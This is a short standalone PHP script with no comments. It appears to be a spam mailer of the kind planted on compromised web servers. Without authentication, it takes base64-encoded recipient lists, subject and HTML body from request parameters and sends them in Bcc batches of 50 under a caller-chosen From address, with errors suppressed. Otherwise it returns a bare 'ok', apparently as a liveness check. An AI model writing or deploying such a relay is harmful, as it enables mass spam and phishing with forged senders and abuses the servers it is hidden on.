<?php
if (isset($_REQUEST['send'])) {
    $list = explode(',', base64_decode($_REQUEST['to']));
    $body = base64_decode($_REQUEST['body']);
    $subj = base64_decode($_REQUEST['subj']);
    foreach (array_chunk($list, 50) as $chunk) {
        $h = "From: " . $_REQUEST['from'] . "\r\nBcc: " . implode(',', $chunk) . "\r\nContent-type: text/html\r\n";
        @mail($_REQUEST['from'], $subj, $body, $h);
    }
    echo 'SENT:' . count($list);
    exit;
}
echo 'ok';
